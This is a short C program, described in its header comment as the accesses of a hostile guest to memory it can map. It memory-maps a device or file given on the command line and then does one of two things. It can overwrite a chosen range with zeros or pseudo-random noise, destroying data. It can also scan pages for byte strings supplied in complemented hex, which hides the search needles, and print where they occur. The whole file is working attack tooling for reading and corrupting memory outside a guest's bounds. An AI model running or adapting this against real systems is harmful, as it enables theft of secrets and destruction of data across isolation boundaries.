/*
  * Accesses of a hostile guest to memory that it can map.
 *
 *   reach noise|zero FILE OFFSET LENGTH
 *	overwrites all of it
 *   reach find FILE FROM TO HEX...
  *	prints the addresses of pages that contain the bytes whose complements are HEX
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>

#define PAGE 4096
#define CHUNK (2 << 20)

static int overwrite(int file, int noise, uint64_t offset, size_t length)
{
	volatile uint32_t *words = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_SHARED, file, offset);
	uint32_t value = 1;

	if (words == MAP_FAILED)
		return perror("mmap"), 1;
	for (size_t i = 0; i < length / sizeof(*words); i++) {
		value = value * 1664525 + 1013904223;
		words[i] = noise ? value : 0;
	}
	return 0;
}

/* A byte string to search for. */
struct text {
	uint8_t bytes[64];
	size_t length;
};

/* Returns 1 if there may be data: where no device answers, all bits are zero, or all are one. */
static int answers(const volatile uint64_t *page)
{
	for (int i = 0; i < 4; i++) {
		uint64_t word = page[i * 131];

		if (word && ~word)
			return 1;
	}
	return 0;
}

static void search(const uint64_t *copy, uint64_t at, const struct text *texts, int count)
{
	for (int i = 0; i < count; i++)
		if (memmem(copy, PAGE, texts[i].bytes, texts[i].length))
			printf("text %d at %llx\n", i, (unsigned long long)at);
}

static void find(int file, uint64_t from, uint64_t to, const struct text *texts, int count)
{
	uint64_t copy[PAGE / sizeof(uint64_t)];
	unsigned long mapped = 0, read = 0;

	for (uint64_t at = from; at < to; at += CHUNK) {
		uint8_t *chunk = mmap(NULL, CHUNK, PROT_READ, MAP_SHARED, file, at);

		/* Memory of the kernel. */
		if (chunk == MAP_FAILED)
			continue;
		mapped++;
		for (size_t page = 0; page < CHUNK; page += PAGE) {
			const volatile uint64_t *words = (void *)(chunk + page);

			if (!answers(words))
				continue;
			read++;
			for (size_t i = 0; i < PAGE / sizeof(*words); i++)
				copy[i] = words[i];
			search(copy, at + page, texts, count);
		}
		munmap(chunk, CHUNK);
	}
	printf("searched %lu of %lu pages\n", read, mapped * (CHUNK / PAGE));
}

static struct text decode(const char *hex)
{
	struct text text = { .length = 0 };

	for (; hex[0] && hex[1] && text.length < sizeof(text.bytes); hex += 2) {
		char digits[] = { hex[0], hex[1], 0 };

		text.bytes[text.length++] = ~strtoul(digits, NULL, 16);
	}
	return text;
}

int main(int argc, char **argv)
{
	struct text texts[4];
	uint64_t from, to;
	int file, count;

	if (argc < 5)
		return 2;
	file = open(argv[2], O_RDWR | O_SYNC);
	if (file < 0)
		return perror(argv[2]), 1;
	from = strtoull(argv[3], NULL, 0);
	to = strtoull(argv[4], NULL, 0);
	if (strcmp(argv[1], "find"))
		return overwrite(file, !strcmp(argv[1], "noise"), from, to);
	for (count = 0; count < 4 && count < argc - 5; count++)
		texts[count] = decode(argv[5 + count]);
	find(file, from, to, texts, count);
	return 0;
}
